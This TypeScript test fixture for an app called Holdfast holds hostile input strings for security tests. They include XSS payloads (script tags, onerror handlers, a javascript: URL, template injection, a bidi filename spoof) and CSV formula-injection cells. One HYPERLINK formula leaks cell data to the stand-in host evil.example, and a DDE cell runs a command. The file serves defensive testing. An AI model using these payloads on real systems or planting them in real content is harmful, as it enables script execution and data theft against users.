// Hostile text people can type into Holdfast (issue 18, "Hostile content"): markup and script that must stay
// text wherever it is shown, and spreadsheet formulas that must stay text in every CSV export. Each XSS payload
// that could run sets `window.__xss` (never `alert`), so a test traps one property instead of guessing what ran.
// Used by e2e/security/hostile-content.spec.ts; pure data, safe for any test to import.

export type HostilePayload = { id: string; text: string };

/** Text that would become markup, script, a URL or a template if anything rendered it as other than text. */
export const XSS_PAYLOADS = [
  { id: "script-tag", text: "<script>window.__xss=1</script>" },
  { id: "img-onerror", text: '<img src=x onerror="window.__xss=1">' },
  { id: "attribute-breakout", text: '"><svg onload=window.__xss=1>' },
  { id: "javascript-url", text: "javascript:window.__xss=1//" },
  { id: "template-injection", text: "{{constructor.constructor('window.__xss=1')()}}" },
  { id: "textarea-breakout", text: "</textarea><script>window.__xss=1</script>" },
  { id: "style-breakout", text: '</style><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  // U+202E turns the rest of the line right-to-left; U+200B and U+2060 are invisible.
  { id: "bidi-zero-width", text: "admin\u202Egnp.exe\u200B\u2060 done" },
  { id: "chinese", text: "张伟 <b>加粗</b> 的答案：“引号”与 &amp; 符号" },
] as const satisfies readonly HostilePayload[];

/** A long line with a payload at each end: the 5,000 characters an essay or a description may hold. */
export const LONG_PAYLOAD = `<script>window.__xss=1</script>${"长".repeat(2_469)}${"x".repeat(2_469)}<img src=x onerror="window.__xss=1">`;

/** Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): each must be kept as text in an export. */
export const FORMULA_PAYLOADS = [
  { id: "hyperlink", text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your grade")' },
  { id: "dde-plus", text: "+cmd|' /C calc'!A0" },
  { id: "minus", text: "-2+3" },
  { id: "at-sum", text: "@SUM(1)" },
  { id: "leading-tab", text: "\t=1+1" },
  { id: "leading-cr", text: "\r=1+1" },
] as const satisfies readonly HostilePayload[];

/** The characters a CSV cell must not start with once written (csv-cell.ts makes them inert with a `'`). */
export const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

/** Every XSS payload joined on one line: one field that carries all of them at once. */
export function allXssPayloads(): string {
  return XSS_PAYLOADS.map((payload) => payload.text).join(" ");
}

/** A short payload tagged with the field it went into, so a page shows which field it came from. */
export function tagged(field: string, index = 0): string {
  const payload = XSS_PAYLOADS[index % XSS_PAYLOADS.length]!;
  return `${field} ${payload.text}`;
}
